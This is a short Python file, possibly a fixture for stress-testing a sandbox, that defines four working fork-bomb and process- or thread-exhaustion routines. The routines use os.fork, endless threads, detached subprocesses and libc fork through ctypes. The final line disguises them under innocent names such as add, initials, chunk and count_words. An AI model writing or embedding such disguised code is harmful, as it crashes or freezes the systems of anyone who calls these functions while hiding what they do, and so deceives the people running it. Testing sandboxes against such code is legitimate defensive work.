import ctypes
import os
import subprocess
import sys
import threading
import time


def bomb(*_):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def threads(*_):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            time.sleep(0.01)


def programs(*_):
    while True:
        try:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"], start_new_session=True)
        except OSError:
            return bomb()


def by_c(*_):
    libc = ctypes.CDLL(None)
    while True:
        libc.fork()


add, initials, chunk, count_words = bomb, threads, programs, by_c
